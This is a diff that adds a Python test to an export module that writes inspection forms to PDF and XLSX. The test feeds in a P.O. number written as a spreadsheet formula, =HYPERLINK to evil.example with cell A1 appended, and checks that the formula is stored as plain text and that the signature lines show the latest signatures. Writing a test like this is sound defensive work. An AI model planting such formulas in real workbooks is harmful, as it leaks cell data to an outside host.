@@ -125,6 +125,18 @@ def test_the_pdf_has_a_page_per_form_with_the_same_values():
     assert "lot L-1 heat H-7731" in pages[1] and "12.004 mm" in pages[2] and "Maria Review" in pages[0]
 
 
+def test_text_typed_as_a_formula_stays_text_and_the_forms_show_the_latest_signatures():
+    attack = {**FAIR, "po_number": '=HYPERLINK("http://evil.example/?"&A1,"PO")',
+              "signatures": [{**FAIR["signatures"][0], "valid": False, "signed_at": "2026-12-01T09:00:00Z"},
+                             *FAIR["signatures"]]}
+    book = load_workbook(io.BytesIO(exports.xlsx(attack)))
+    cell = next(row[1] for row in book["Form 1"].iter_rows() if row[0].value == "12. P.O. Number")
+    assert (cell.data_type, cell.value) == ("s", attack["po_number"])
+    assert [line[:2] for line in exports.signature_lines(attack)] == [
+        ("Prepared by", "Quentin Quality"), ("Approved by", "Maria Review")]
+    assert exports.signature_lines(attack)[0][2] == "2026-12-07T10:00:00Z"   # the latest authorship
+
+
 def test_the_workbook_has_one_sheet_per_form_with_the_same_values():
     book = load_workbook(io.BytesIO(exports.xlsx(FAIR)))
     assert book.sheetnames == ["Form 1", "Form 2", "Form 3"]
